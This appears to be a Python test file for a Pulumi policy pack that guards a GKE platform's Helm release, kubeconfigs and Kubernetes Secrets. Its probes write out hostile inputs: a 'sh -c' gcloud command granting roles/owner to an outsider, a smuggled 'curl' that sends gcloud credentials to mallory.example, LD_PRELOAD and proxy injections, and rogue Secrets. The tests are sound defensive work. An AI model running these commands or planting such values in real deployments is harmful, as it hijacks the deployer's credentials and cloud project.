"""The guardrails on what runs on the deployer's machine or lands in the stack's state, probe by
probe (issue 18, item 2): the Helm release's inputs, the kubeconfigs the program hands to kubectl
and to the Kubernetes provider, and the Secrets it makes. Each probe breaks a resource the real
program registers (the shipped stacks' runs) and shows the pack's mandatory rejection, whose
message names the resource; the program's own resources pass."""

from __future__ import annotations

import base64
import copy
from types import SimpleNamespace

import policies as P
import pulumi
import pytest
import yaml
from policy_support import args_of, make_args, one, only, rejected, reports, urn_of
from pulumi_policy.proxy import UNKNOWN_STRING_VALUE, UnknownValueError

from components.auto_nodes_identity import PLATFORM_NAMESPACE
from components.kubeconfig import gke_kubeconfig
from components.vcluster_platform import LICENSE_SECRET
from config.platform_access import ADMIN_PASSWORD_KEY, ADMIN_PASSWORD_SECRET
from tools import program_inventory as inventory

RELEASE = "kubernetes:helm.sh/v3:Release"
COMMAND = "command:local:Command"
PROVIDER = "pulumi:providers:kubernetes"
SECRET = "kubernetes:core/v1:Secret"
SOURCE = "policy/program_data.json inventory (make policy-data)"
OWNER = "gcloud projects add-iam-policy-binding acme-ml-dev --member=user:eve@example.com --role=roles/owner"
DEV_ENDPOINT_RULE = (
    "is not the DNS endpoint of the stack's host cluster; allowed: https://<uid>.europe-west4-a.gke.goog, the endpoint GKE gives "
    "projects/acme-ml-dev/locations/europe-west4-a/clusters/gpu-dev (it assigns the uid when it creates the cluster, so the pack holds "
    "the domain and the location; a kubeconfig still unknown during preview is checked during `pulumi up`, before it is used)"
)
PROGRAM_EXEC = "allowed: command 'gke-gcloud-auth-plugin' with no args or env, exactly as components/kubeconfig.py writes it"


def kubeconfig(user: dict, cluster: dict | None = None) -> str:
    """A kubeconfig of one cluster, user and context, as the reviewer's probe wrote it."""
    return yaml.safe_dump(
        {
            "apiVersion": "v1",
            "kind": "Config",
            "clusters": [{"name": "c", "cluster": cluster or {"server": "https://1.2.3.4"}}],
            "users": [{"name": "u", "user": user}],
            "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
            "current-context": "c",
        }
    )


SHELL_EXEC = {"exec": {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": "sh", "args": ["-c", OWNER]}}
SHELL_KUBECONFIG = kubeconfig(SHELL_EXEC)


# --- The Helm release -----------------------------------------------------------------------------------

RELEASE_INPUTS = "chart, compat, createNamespace, maxHistory, name, namespace, repositoryOpts, repositoryOpts.repo, timeout, values, version"


@pytest.mark.parametrize(
    "changes, expected",
    [
        (
            {"postrender": f"/bin/sh -c '{OWNER}; cat'"},
            "postrender: is not an input gpu-platform sets on a Helm release (a command Helm runs on the deployer's machine, with its "
            f"credentials); allowed: {RELEASE_INPUTS} ({SOURCE})",
        ),
        (
            {"valueYamlFiles": [pulumi.StringAsset("admin:\n  password: hunter2\nservice:\n  type: LoadBalancer\n")]},
            "valueYamlFiles: is not an input gpu-platform sets on a Helm release (values merged with `values`, beyond the value paths "
            f"checked here); allowed: {RELEASE_INPUTS} ({SOURCE})",
        ),
        (
            {"repositoryOpts": {"repo": "https://charts.loft.sh", "caFile": "/tmp/mallory-ca.pem"}},
            f"repositoryOpts.caFile: is not an input gpu-platform sets on a Helm release; allowed: {RELEASE_INPUTS} ({SOURCE})",
        ),
    ],
)
def test_a_release_input_the_program_never_sets_is_rejected(runs, changes, expected):
    run, reg = one(runs, "dev", RELEASE)
    props = {**copy.deepcopy(reg.plain_inputs), **changes}
    assert only(rejected(args_of(run, reg, props=props)), P.release_by_design) == f"platform-release (chart 'vcluster-platform'): {expected}"


def checked_release(inputs: dict, **fields) -> dict:
    """A release's inputs as the Kubernetes provider's Check hands them to the pack: every field of
    its Release type, the unset ones at their zero value, without the SDK's `compat`, and the
    values files merged into `values` (pulumi-kubernetes provider/pkg/provider/helm_release.go)."""
    zero = {"atomic": False, "cleanupOnFail": False, "description": "", "keyring": "", "postrender": "", "skipAwait": False, "waitForJobs": False}
    props = {**zero, **{k: v for k, v in copy.deepcopy(inputs).items() if k != "compat"}, **fields}
    props["repositoryOpts"] = {"caFile": "", "certFile": "", "keyFile": "", "password": "", "username": "", **props["repositoryOpts"]}
    return props


def test_the_release_as_the_providers_check_hands_it_over(runs):
    """Unset fields at their zero value pass; a post-renderer is still one, and values from files,
    merged into `values` by then, are judged by their paths."""
    run, reg = one(runs, "dev", RELEASE)
    assert P.release_by_design.name not in {name for name, _ in rejected(args_of(run, reg, props=checked_release(reg.plain_inputs)))}
    props = checked_release(reg.plain_inputs, postrender="./steal.sh")
    assert "postrender: is not an input gpu-platform sets on a Helm release" in only(rejected(args_of(run, reg, props=props)), P.release_by_design)
    merged = checked_release(reg.plain_inputs)
    merged["values"] = {**merged["values"], "admin": {**merged["values"]["admin"], "password": "hunter2"}, "service": {"type": "LoadBalancer"}}
    found = [m for name, m in rejected(args_of(run, reg, props=merged)) if name == P.release_by_design.name]
    assert [m.split(": ", 2)[1] for m in found] == ["values.admin.password", "values.service.type"], found


# --- Kubeconfigs: a local command's environment and the Kubernetes provider -------------------------------


def test_a_command_whose_kubeconfig_runs_another_exec_plugin_is_rejected(runs):
    """The reviewer's probe: kubectl would run `sh -c 'gcloud … --role=roles/owner'` as the deployer."""
    run, reg = one(runs, "dev", COMMAND, "api-ready")
    props = {**copy.deepcopy(reg.plain_inputs), "environment": {"KUBECONFIG_DATA": SHELL_KUBECONFIG}}
    found = [m for name, m in rejected(args_of(run, reg, props=props)) if name == P.commands_by_design.name]
    assert found == [
        f"platform-api-ready: environment.KUBECONFIG_DATA: clusters[0] ('c').cluster.server: 'https://1.2.3.4' {DEV_ENDPOINT_RULE}",
        f"platform-api-ready: environment.KUBECONFIG_DATA: users[0] ('u').user.exec: command 'sh', args ['-c', '{OWNER}'], "
        "provideClusterInfo not set, interactiveMode not set, installHint not set is not the exec plugin gpu-platform writes (kubectl and "
        f"the Kubernetes provider run it on the deployer's machine, with the deployer's credentials); {PROGRAM_EXEC}",
    ]


@pytest.mark.parametrize(
    "edit, expected",
    [
        (
            lambda d: d["users"][0]["user"].update({"auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}}}),
            "user.auth-provider: is not a field gpu-platform writes (a plugin of kubectl's own, run with its config); allowed: exec",
        ),
        (lambda d: d["users"][0]["user"].update(tokenFile="/var/run/secrets/token"), "user.tokenFile: is not a field gpu-platform writes (a file of the deployer's machine); allowed: exec"),
        (lambda d: d["users"][0]["user"].update({"client-key": "/home/ci/.ssh/key"}), "user.client-key: is not a field gpu-platform writes (a file of the deployer's machine); allowed: exec"),
        (lambda d: d["users"][0]["user"]["exec"].update(env=[{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]), "user.exec: env [{'name': 'LD_PRELOAD', 'value': '/tmp/x.so'}] is not the exec plugin"),
        (
            lambda d: d["clusters"][0]["cluster"].update({"proxy-url": "http://mallory.example:3128"}),
            "cluster.proxy-url: is not a field gpu-platform writes (every request, the deployer's token included, through another host); allowed: server",
        ),
        # The DNS endpoint of a cluster in another location (prod's region): not dev's host cluster.
        (lambda d: d["clusters"][0]["cluster"].update(server="https://gke-0123-4567.us-central1.gke.goog"), f".cluster.server: 'https://gke-0123-4567.us-central1.gke.goog' {DEV_ENDPOINT_RULE}"),
    ],
)
def test_every_way_out_of_the_programs_kubeconfig_is_rejected(runs, edit, expected):
    run, reg = one(runs, "dev", COMMAND, "api-ready")
    document = yaml.safe_load(reg.input("environment", "KUBECONFIG_DATA"))
    edit(document)
    props = {**copy.deepcopy(reg.plain_inputs), "environment": {"KUBECONFIG_DATA": yaml.safe_dump(document)}}
    message = only(rejected(args_of(run, reg, props=props)), P.commands_by_design)
    assert message.startswith("platform-api-ready: environment.KUBECONFIG_DATA: ") and expected in message, message


def test_a_kubeconfig_unknown_during_preview_is_judged_during_the_update(runs):
    """A new cluster's kubeconfig is unknown at the first preview: the policy is deferred (the SDK's
    "can't run during preview" note), not waved through."""
    run, reg = one(runs, "dev", COMMAND, "api-ready")
    props = {**copy.deepcopy(reg.plain_inputs), "environment": {"KUBECONFIG_DATA": UNKNOWN_STRING_VALUE}}
    with pytest.raises(UnknownValueError):
        reports(P.commands_by_design, args_of(run, reg, props=props))
    run, provider = one(runs, "dev", PROVIDER)
    with pytest.raises(UnknownValueError):
        reports(P.kubernetes_providers_by_design, args_of(run, provider, props={**provider.plain_inputs, "kubeconfig": UNKNOWN_STRING_VALUE}))


@pytest.mark.parametrize(
    "kubeconfig_input, expected",
    [
        (
            SHELL_KUBECONFIG,
            [
                f"host: kubeconfig: clusters[0] ('c').cluster.server: 'https://1.2.3.4' {DEV_ENDPOINT_RULE}",
                f"host: kubeconfig: users[0] ('u').user.exec: command 'sh', args ['-c', '{OWNER}'], provideClusterInfo not set, interactiveMode "
                "not set, installHint not set is not the exec plugin gpu-platform writes (kubectl and the Kubernetes provider run it on the "
                f"deployer's machine, with the deployer's credentials); {PROGRAM_EXEC}",
            ],
        ),
        (
            "~/.kube/config",
            [
                "host: kubeconfig: '~/.kube/config' is no kubeconfig document but the path of a file on the deployer's machine, which nobody "
                "reviews; allowed: the kubeconfig components/kubeconfig.py writes for the stack's host cluster"
            ],
        ),
        (
            None,
            [
                "host: kubeconfig: not set (the provider would use the deployer's own kubeconfig: whatever cluster, credentials and exec "
                "plugins it names); allowed: the kubeconfig components/kubeconfig.py writes for the stack's host cluster"
            ],
        ),
    ],
)
def test_a_kubernetes_provider_with_another_kubeconfig_is_rejected(runs, kubeconfig_input, expected):
    """A team stack's provider (its kubeconfig comes from the environment stack's outputs)."""
    run, reg = one(runs, "team-vision-dev", PROVIDER)
    props = {k: v for k, v in reg.plain_inputs.items() if k != "kubeconfig"}
    if kubeconfig_input is not None:
        props["kubeconfig"] = kubeconfig_input
    assert [m for name, m in rejected(args_of(run, reg, props=props)) if name == P.kubernetes_providers_by_design.name] == expected


def test_the_programs_kubeconfigs_pass_and_are_the_builders(runs):
    """Every provider and command of the shipped stacks passes, and the form the pack holds is the
    one components/kubeconfig.py writes, read from the runs."""
    for stack, run in runs.items():
        for reg in [*run.of_type(PROVIDER), *run.of_type(COMMAND)]:
            assert [m for name, m in rejected(args_of(run, reg)) if name in (P.kubernetes_providers_by_design.name, P.commands_by_design.name)] == [], (stack, reg.name)
    built = yaml.safe_load(gke_kubeconfig("c", "gke-uid.europe-west4-a.gke.goog"))
    form = P.INVENTORY[P.PROGRAM_PROJECT]["kubeconfigs"]
    assert form["exec"] == [built["users"][0]["user"]["exec"]] and form["exec"][0]["command"] == "gke-gcloud-auth-plugin"
    assert (form["clusterKeys"], form["userKeys"]) == (sorted(built["clusters"][0]["cluster"]), ["exec"])
    assert inventory.kubeconfigs(runs.values()) == form
    # The admin password, the OIDC secret's check, the TLS secret's check, the API wait: each given the kubeconfig only.
    assert [c["environmentForms"] for c in P.INVENTORY[P.PROGRAM_PROJECT]["commands"]] == [{"KUBECONFIG_DATA": "kubeconfig"}] * 4


def test_a_constant_environment_value_is_pinned_to_the_programs(runs, monkeypatch):
    """A command the program gave a constant beside its kubeconfig (as the inventory would record
    one: {"equals": …}) gets that constant and no other."""
    run, reg = one(runs, "dev", COMMAND, "api-ready")
    commands = copy.deepcopy(P.INVENTORY[P.PROGRAM_PROJECT]["commands"])
    for c in commands:
        c["environment"] = ["KUBECONFIG_DATA", "TIMEOUT"]
        c["environmentForms"]["TIMEOUT"] = {"equals": "600s"}
    monkeypatch.setitem(P.INVENTORY[P.PROGRAM_PROJECT], "commands", commands)
    environment = {**reg.plain_inputs["environment"], "TIMEOUT": "600s"}
    assert reports(P.commands_by_design, args_of(run, reg, props={**reg.plain_inputs, "environment": environment})) == []
    environment["TIMEOUT"] = "600s; curl -d @$HOME/.config/gcloud/credentials.db https://mallory.example"
    [(_, message)] = reports(P.commands_by_design, args_of(run, reg, props={**reg.plain_inputs, "environment": environment}))
    assert message == (
        "platform-api-ready: environment.TIMEOUT: '600s; curl -d @$HOME/.config/gcloud/credentials.db https://mallory.example' is not the "
        "value gpu-platform gives this command; allowed: '600s'"
    )


def test_an_environment_value_the_cloud_computes_needs_a_form_before_it_is_recorded():
    command = SimpleNamespace(name="platform-wait")
    assert inventory.environment_form(command, "TIMEOUT", "600s") == {"equals": "600s"}
    with pytest.raises(ValueError, match="platform-wait: environment ENDPOINT is computed by the cloud"):
        inventory.environment_form(command, "ENDPOINT", "https://gke-placeholder-dns-endpoint.europe-west4-a.gke.goog")


# --- Kubernetes Secrets ---------------------------------------------------------------------------------


def secret_args(props: dict, name: str):
    return make_args(SECRET, props, name=name, urn=urn_of(SECRET, name, stack="dev"))


LICENSE = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": LICENSE_SECRET, "namespace": PLATFORM_NAMESPACE}, "stringData": {"token": "t0ken"}}
LICENSE_ALLOWED = f"allowed: exactly the Secrets of {SOURCE}: vcluster-platform/vcluster-platform-license (type 'Opaque', keys token)"
IN_STATE = "whatever it holds sits in the stack's state, which whoever may read the stack decrypts: dev's previews included"


@pytest.mark.parametrize(
    "props, expected",
    [
        # A password of the attacker's choosing: the program's command only creates the Secret when absent.
        (
            {"metadata": {"name": ADMIN_PASSWORD_SECRET, "namespace": PLATFORM_NAMESPACE}, "stringData": {ADMIN_PASSWORD_KEY: "known-to-the-attacker"}, "type": "Opaque"},
            f"intruder (Secret 'vcluster-platform/vcluster-platform-admin-password'): a Secret of type 'Opaque', keys password is not one "
            f"gpu-platform makes ({IN_STATE}); {LICENSE_ALLOWED}",
        ),
        # A token of a controller's service account, which Kubernetes fills in (and Pulumi reads back into state).
        (
            {
                "metadata": {"name": "tok", "namespace": "kube-system", "annotations": {"kubernetes.io/service-account.name": "clusterrole-aggregation-controller"}},
                "type": "kubernetes.io/service-account-token",
            },
            "intruder (Secret 'kube-system/tok'): a Secret of type 'kubernetes.io/service-account-token', keys none is not one gpu-platform "
            f"makes (Kubernetes fills it with a token of service account kube-system/clusterrole-aggregation-controller; {IN_STATE}); {LICENSE_ALLOWED}",
        ),
        # The license's own name, with a key more.
        (
            {**LICENSE, "stringData": {"token": "t0ken", "password": "x"}},
            "intruder (Secret 'vcluster-platform/vcluster-platform-license'): a Secret of type 'Opaque', keys password, token is not one "
            f"gpu-platform makes (it differs from the program's in keys); {LICENSE_ALLOWED}",
        ),
    ],
)
def test_a_secret_the_program_does_not_make_is_rejected(props, expected):
    assert only(rejected(secret_args(props, "intruder")), P.kubernetes_secrets_by_design) == expected


def test_the_license_secret_passes_as_the_program_and_the_providers_check_write_it():
    """As the program registers it (components/vcluster_platform.py, with a license), and as the
    Kubernetes provider's Check hands it over: `stringData` moved into `data`, base64."""
    checked = {**{k: v for k, v in LICENSE.items() if k != "stringData"}, "data": {"token": base64.b64encode(b"t0ken").decode()}}
    # The token unknown during preview (a secret another resource computes): judged by its key, not waited for.
    unknown = {**LICENSE, "stringData": {"token": UNKNOWN_STRING_VALUE}}
    for props in (LICENSE, checked, unknown):
        assert reports(P.kubernetes_secrets_by_design, secret_args(props, "platform-license")) == []
    assert [s["metadata"] for s in P.INVENTORY[P.PROGRAM_PROJECT]["kubernetesSecrets"]] == [{"namespace": PLATFORM_NAMESPACE, "name": LICENSE_SECRET}]
